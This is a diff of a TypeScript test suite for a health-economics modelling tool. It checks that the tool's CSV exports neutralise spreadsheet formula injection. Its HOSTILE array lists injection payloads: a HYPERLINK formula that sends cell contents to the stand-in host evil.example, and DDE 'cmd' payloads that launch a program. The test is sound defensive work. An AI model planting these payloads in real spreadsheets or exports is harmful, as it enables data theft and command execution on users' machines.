@@ -21,7 +21,8 @@ import { fixtureModel, fixtureSettings } from './budget-fixtures';
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];
 
 const model = JSON.parse(readFileSync('models/hiv-chancellor.json', 'utf8'));
-model.currency = '=GBP';
+// (the model's currency is no longer free text to inject: costs are converted to it, so it must be a currency the file can reach)
+(model.costCategories as { label: string }[]).forEach((c, i) => (c.label = `=${c.label}${i}`));
 model.strategies[0].label = HOSTILE[0];
 model.strategies[1].label = HOSTILE[1];
 model.states[0].label = HOSTILE[2];
@@ -38,6 +39,13 @@ const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
 const runnable = (csv: string) => cells(csv).filter((c) => FORMULA.test(c) && !NUMBER.test(c));
 const escaped = (csv: string) => cells(csv).filter((c) => c.startsWith("'") && FORMULA.test(c.slice(1)));
 
+/** the budget fixture with strategy labels a spreadsheet would run (its currency must stay one costs convert to) */
+function hostileBudgetModel() {
+	const m = fixtureModel();
+	m.strategies.forEach((st, i) => (st.label = `${HOSTILE[i % HOSTILE.length]} ${st.label}`));
+	return m;
+}
+
 describe('point 6: CSV formula injection', () => {
 	const result = run(compile(model));
 	const rows = resultRows(result);
@@ -52,7 +60,7 @@ describe('point 6: CSV formula injection', () => {
 		cycleCosts: cycleCostsCsv(result),
 		comparison: compareCsv(scenarios, compareInputs(open, scenarios), compareResults(open, scenarios)),
 		psaDraws: psaDrawsCsv(runPsa(compile(model), { iterations: 5, seed: 1 })),
-		budget: budgetCsv(runBudget(compile({ ...fixtureModel(), currency: '+EUR' }), parseBudgetSettings(fixtureSettings())))
+		budget: budgetCsv(runBudget(compile(hostileBudgetModel()), parseBudgetSettings(fixtureSettings())))
 	};
 
 	it.each(Object.keys(csvs) as (keyof typeof csvs)[])('%s CSV: no text cell a spreadsheet would run', (name) => {
@@ -65,13 +73,14 @@ describe('point 6: CSV formula injection', () => {
 		const results = escaped(csvs.results);
 		expect(results).toEqual(expect.arrayContaining([`'${HOSTILE[0]}`, `'${HOSTILE[1]}`, "'-scenario name"]));
 		const comparison = escaped(csvs.comparison);
-		expect(comparison).toEqual(expect.arrayContaining([`'${HOSTILE[4]}`, `'${HOSTILE[5]}`, "'-cost of lamivudine", "'=1+1 scenario", "'@scenario", "'=GBP 1995", `'${HOSTILE[0]}`]));
+		expect(comparison).toEqual(expect.arrayContaining([`'${HOSTILE[4]}`, `'${HOSTILE[5]}`, "'-cost of lamivudine", "'=1+1 scenario", "'@scenario", `'${HOSTILE[0]}`]));
 	});
 
 	it('numbers, negative ones included, stay numbers (not escaped)', () => {
-		const parsed = Papa.parse<Record<string, unknown>>(csvs.comparison.split('\n\n')[0], { header: true, dynamicTyping: true }).data;
-		const rr = parsed.find((r) => r.key === 'parameters.rr');
-		expect(rr?.["'@scenario"]).toBe(0.6); // the header, a scenario name, is escaped too
+		// the tidy comparison: one row per scenario and input; the scenario name is escaped, the value is a number
+		const parsed = Papa.parse<Record<string, unknown>>(csvs.comparison, { header: true, dynamicTyping: true }).data;
+		const rr = parsed.find((r) => r.item === 'parameters.rr' && r.scenario === "'@scenario");
+		expect(rr?.value).toBe(0.6);
 		const cost = Papa.parse<Record<string, unknown>>(csvs.cycleCosts, { header: true, dynamicTyping: true }).data;
 		expect(typeof cost[0]['cycle']).toBe('number');
 	});
